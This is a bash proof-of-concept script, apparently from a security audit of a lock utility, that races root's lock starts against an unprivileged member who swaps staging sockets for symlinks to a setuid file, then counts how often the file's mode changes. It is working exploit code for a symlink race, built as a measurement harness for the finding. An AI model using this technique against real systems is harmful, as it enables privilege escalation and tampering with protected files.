#!/usr/bin/env bash
# Finding 6 without help: root starts a lock ROUNDS times in a group
# directory (2770, group 4242) while a member (uid 4202) swaps each
# .onlyone-new-* staging socket for a symlink to a setuid file as soon as
# inotify shows it; counts the starts after which that file's mode had
# changed (root's holder chmodded it through the symlink). Needs root, gcc.
#   scripts/attack/portable/staging_swap.sh BINARY [ROUNDS]
set -u
B=$(realpath "$1"); ROUNDS=${2:-300}
T=$(mktemp -d /tmp/a11-swap-XXXX); chmod 755 "$T"; D=$T/locks
mkdir "$D"; chgrp 4242 "$D"; chmod 2770 "$D"
gcc -O2 -o "$T/swap" "$(dirname "$0")/staging_swap.c"
echo '#!/bin/sh' > "$T/victim"; chmod 4755 "$T/victim"
setpriv --reuid=4202 --regid=4242 --clear-groups "$T/swap" "$D" "$T/victim" & A=$!
sleep 0.2; won=0
for i in $(seq "$ROUNDS"); do
  # the socket file left by the last holder (or the symlink a win left)
  rm -f "$D"/.onlyone-[0-9a-f]*
  "$B" run --dir "$D" --name job -- true 2>/dev/null
  if [ "$(stat -c %a "$T/victim")" != 4755 ]; then won=$((won+1)); chmod 4755 "$T/victim"; fi
done
kill "$A"; wait "$A" 2>/dev/null
echo "root starts: $ROUNDS; the setuid file's mode changed after $won of them"
rm -rf "$T"
